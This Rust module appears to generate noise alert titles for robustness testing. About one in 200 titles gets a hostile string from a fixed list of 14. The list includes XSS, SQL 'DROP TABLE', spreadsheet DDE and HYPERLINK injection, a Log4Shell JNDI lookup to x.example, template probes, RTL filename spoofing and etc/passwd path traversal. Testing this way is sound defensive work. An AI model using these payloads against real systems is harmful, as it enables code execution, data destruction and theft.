//! Text that has broken readers before, for the titles of some alerts of noise: what an attacker can put into a file name or
//! a mail's subject ends up in the title of an alert.
//!
//! Written as the inside of a JSON string. Never in stories, so that a reader who drops such alerts loses no case by it.

use super::alert::Alert;

/// One in so many titles of noise.
const ONE_IN: u64 = 200;

const TEXTS: [&str; 14] = [
    r#"\"><script>alert(1)</script>"#,
    r#"=HYPERLINK(\"http://x.example\",\"click\")"#,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE cases;--",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} <%= 7*7 %>",
    r"back\\slash \\\\server\\share, comma, tab\there",
    r"two\nlines and a carriage\rreturn",
    r"\u001b[31mred\u001b[0m",
    "right to left \u{202e}fdp.exe",
    "zero\u{200b}width and e\u{301} combined",
    "Überprüfung 会议纪要 تقرير 🦀",
    r"\ud83d\ude00 escaped pair, \u00e9, \u2028 separator",
    "%00 %0a..%2f..%2fetc%2fpasswd &amp; <b>",
];

/// The same answer for an alert each time it is rendered.
pub(super) fn for_title(alert: &Alert) -> Option<&'static str> {
    let picked = alert.seed / ONE_IN % TEXTS.len() as u64;
    let is_hostile = alert.story.is_none() && alert.seed.is_multiple_of(ONE_IN);
    is_hostile.then_some(TEXTS[picked as usize])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_are_json_strings() {
        for text in TEXTS {
            serde_json::from_str::<String>(&format!("\"{text}\"")).unwrap();
        }
    }
}
